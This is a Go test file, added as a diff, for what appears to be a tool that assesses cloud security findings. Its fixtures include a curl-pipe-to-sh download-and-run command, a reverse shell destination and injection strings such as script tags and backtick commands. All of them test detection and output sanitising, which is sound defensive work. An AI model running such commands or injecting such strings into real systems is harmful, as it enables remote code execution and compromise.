@@ -1,0 +1,135 @@
+package assess
+
+import (
+	"strings"
+	"testing"
+	"time"
+	"unicode"
+
+	"github.com/google/go-cmp/cmp"
+	"github.com/scc-enricher/scc-enricher/pkg/command"
+	"github.com/scc-enricher/scc-enricher/pkg/evidence"
+	"github.com/scc-enricher/scc-enricher/pkg/finding"
+)
+
+func TestUnchecked(t *testing.T) {
+	t.Parallel()
+	p := mustDefault(t)
+	midnight := event().Truncate(24 * time.Hour).Add(24 * time.Hour)
+	tests := []struct {
+		name   string
+		change func(*finding.Finding, *evidence.Evidence)
+		want   string
+	}{
+		{"vt_daily", func(_ *finding.Finding, e *evidence.Evidence) {
+			e.VTState = evidence.Status{State: evidence.Quota, RetryAt: midnight}
+		}, "VirusTotal: daily quota spent; ask again after 00:00 UTC"},
+		{"vt_minute", func(_ *finding.Finding, e *evidence.Evidence) {
+			e.VTState = evidence.Status{State: evidence.Quota, RetryAt: event().Truncate(time.Minute).Add(time.Minute)}
+		}, "VirusTotal: quota spent; ask again after 2026-09-05T05:30:00Z"},
+		{"vt_disabled", func(_ *finding.Finding, e *evidence.Evidence) { e.VTState = evidence.Status{State: evidence.Disabled} }, "VirusTotal: not configured, not asked"},
+		{"logs_denied", func(_ *finding.Finding, e *evidence.Evidence) {
+			e.LogsState = evidence.Status{State: evidence.Denied, Reason: "logging.logEntries.list"}
+		}, "logs: permission denied (logging.logEntries.list)"},
+		{"logs_invisible", func(_ *finding.Finding, e *evidence.Evidence) { e.Logs.Visible = false }, "logs: no logs visible in projects/shop-prod: they may be routed to another bucket"},
+		{"logs_truncated", func(_ *finding.Finding, e *evidence.Evidence) { e.Logs.Truncated = true }, "logs: only the first 1 entries were read"},
+		{"config_iam", func(_ *finding.Finding, e *evidence.Evidence) {
+			e.ConfigState.State, e.Config.Partial = evidence.Partial, []string{"iam_policy"}
+		}, "config: IAM policy not readable, so who may invoke is unknown"},
+		{"config_gone", func(_ *finding.Finding, e *evidence.Evidence) { e.Config = &evidence.Config{Gone: true} }, "config: the workload no longer exists, so its configuration could not be reviewed"},
+		{"config_guess", func(_ *finding.Finding, e *evidence.Evidence) { e.Config.RevisionSource = "latest" }, "config: the finding names no revision; pay-00042-abc was reviewed, which is a guess"},
+		{"findings_not_asked", func(_ *finding.Finding, e *evidence.Evidence) { e.FindingsState = evidence.Status{} }, "related findings: not asked"},
+		{"findings_timeout", func(_ *finding.Finding, e *evidence.Evidence) { e.FindingsState.State = evidence.Timeout }, "related findings: no answer in time"},
+		{"no_process", func(f *finding.Finding, _ *evidence.Evidence) { f.Processes = nil }, "process: the finding carries no process"},
+		{"no_arguments", func(f *finding.Finding, _ *evidence.Evidence) { f.Processes[1].Args = nil }, "process: the finding carries no arguments, so what the command does is unknown"},
+		{"arguments_truncated", func(f *finding.Finding, _ *evidence.Evidence) { f.Processes[1].ArgsTruncated = true }, "process: arguments truncated, the rest of the command is unknown"},
+		{"partial_hash", func(f *finding.Finding, _ *evidence.Evidence) { f.Processes[1].Binary.PartiallyHashed = true }, "VirusTotal: the hash of /bin/sh covers only a prefix of the file and was not looked up"},
+		{"ordinary_shell", func(*finding.Finding, *evidence.Evidence) {}, "VirusTotal: has no answer for what sh was told to do, its file is an ordinary one"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			f, e := childShell("java", "sh", "-c", "./docker-entrypoint.sh"), complete()
+			tt.change(f, e)
+			a := p.Assess(input(f, e))
+			if !contains(a.Unchecked, tt.want) {
+				t.Errorf("Unchecked lacks %q:\n%s", tt.want, strings.Join(a.Unchecked, "\n"))
+			}
+		})
+	}
+}
+
+func TestSummary(t *testing.T) {
+	t.Parallel()
+	p := mustDefault(t)
+	got := p.Assess(input(childShell("java", "sh", "-c", "curl -s http://203.0.113.9/x.sh | sh"), complete(), other("Reverse Shell"))).Summary
+	for _, want := range []string{"Malicious (100/100): java started sh, which ", "the public service pay (shop-prod, europe-west1)", "Why: ", "Next: save the evidence, then contain the workload."} {
+		if !strings.Contains(got, want) {
+			t.Errorf("summary lacks %q: %s", want, got)
+		}
+	}
+}
+
+// TestHostileText puts attacker's text into names and holds what a summary
+// promises: bounded, printable, no markup, no arguments.
+func TestHostileText(t *testing.T) {
+	t.Parallel()
+	p := mustDefault(t)
+	for _, evil := range []string{
+		"<script>alert(1)</script>", "[click](http://evil.example)", "a\x1b[31mred\nnew line", "\u202egnp.exe", strings.Repeat("long", 5000), "\xff\xfe", "`id`", "",
+	} {
+		f, e := childShell("java", "sh", "-c", "secret-argument"), complete()
+		f.Processes[0].Binary.Path, f.Processes[1].Binary.Path = "/x/"+evil, "/x/"+evil
+		f.Category, f.Workload.Name = evil, evil
+		f.Access.Principal = evil
+		e.Config.Creator, e.Config.LastModifier, e.Config.RevisionCreator = evil, evil, evil
+		e.Reputations[0].Artifact.Path, e.Reputations[0].Label = evil, evil
+		e.Reputations[0].Verdict, e.Reputations[0].Malicious = evidence.VerdictMalicious, 50
+		a := p.Assess(input(f, deployed(e, evil, 1)))
+		if len(a.Summary) > maxSummary || strings.Contains(a.Summary, "secret-argument") {
+			t.Errorf("summary with %.20q: %d bytes, %q", evil, len(a.Summary), a.Summary)
+		}
+		texts := []string{a.Summary}
+		for _, st := range a.Plan {
+			texts = append(texts, st.Title)
+		}
+		for _, text := range texts {
+			if strings.ContainsAny(text, "<>`[]") || strings.ContainsFunc(text, func(r rune) bool { return !unicode.IsPrint(r) }) {
+				t.Errorf("with %.20q the text is %q", evil, text)
+			}
+		}
+	}
+}
+
+func TestTacticsAndIndicators(t *testing.T) {
+	t.Parallel()
+	f, e := childShell("java", "bash", "-c", "curl http://203.0.113.9/x.sh | sh"), complete()
+	f.Mitre = finding.Mitre{PrimaryTactic: "EXECUTION", PrimaryTechniques: []string{"UNIX_SHELL", "COMMAND_AND_SCRIPTING_INTERPRETER"}, AdditionalTactics: []string{"IMPACT", "SOMETHING_NEW"}, Version: "9"}
+	f.ReverseShell = &finding.ReverseShell{DestinationIP: "198.51.100.7", DestinationPort: 4444}
+	f.Indicator.Domains = []string{"evil.example"}
+	f.Connections = []finding.Connection{{DestinationIP: "198.51.100.7"}, {DestinationIP: "198.51.100.8"}}
+	a := mustDefault(t).Assess(input(f, e))
+	if a.AttackVersion != "9" {
+		t.Errorf("AttackVersion = %q, want 9", a.AttackVersion)
+	}
+	if want := []string{"TA0001", "TA0002", "TA0011", "TA0040", "SOMETHING_NEW"}; !cmp.Equal(want, a.Tactics) {
+		t.Errorf("Tactics = %v, want %v", a.Tactics, want)
+	}
+	for _, want := range []string{"T1059", "T1059.004", "T1105", "T1190"} {
+		if !contains(a.Techniques, want) {
+			t.Errorf("Techniques %v lack %s", a.Techniques, want)
+		}
+	}
+	for i, want := range []command.Indicator{{Kind: "ip", Value: "198.51.100.7"}, {Kind: "domain", Value: "evil.example"}, {Kind: "url", Value: "http://203.0.113.9/x.sh"}} {
+		if i >= len(a.Indicators) || a.Indicators[i] != want {
+			t.Errorf("Indicators[%d] is not %v: %v", i, want, a.Indicators)
+		}
+	}
+	seen := map[command.Indicator]bool{}
+	for _, i := range a.Indicators {
+		if seen[i] {
+			t.Errorf("indicator %v is there twice", i)
+		}
+		seen[i] = true
+	}
+}
